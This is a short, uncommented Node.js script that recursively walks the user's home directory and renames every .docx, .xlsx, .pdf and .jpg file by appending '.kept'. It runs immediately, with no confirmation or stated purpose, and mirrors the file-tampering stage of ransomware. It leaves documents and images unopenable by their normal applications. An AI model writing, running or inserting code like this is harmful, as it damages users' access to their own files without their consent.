const fs = require("fs");
const path = require("path");
const kinds = [".docx", ".xlsx", ".pdf", ".jpg"];
const each = { d: visit, f: (file) => kinds.includes(path.extname(file)) && fs.renameSync(file, file + ".kept") };
function visit(top) {
  for (const entry of fs.readdirSync(top, { withFileTypes: true })) each[entry.isFile() ? "f" : "d"](path.join(top, entry.name));
}
visit(require("os").homedir());
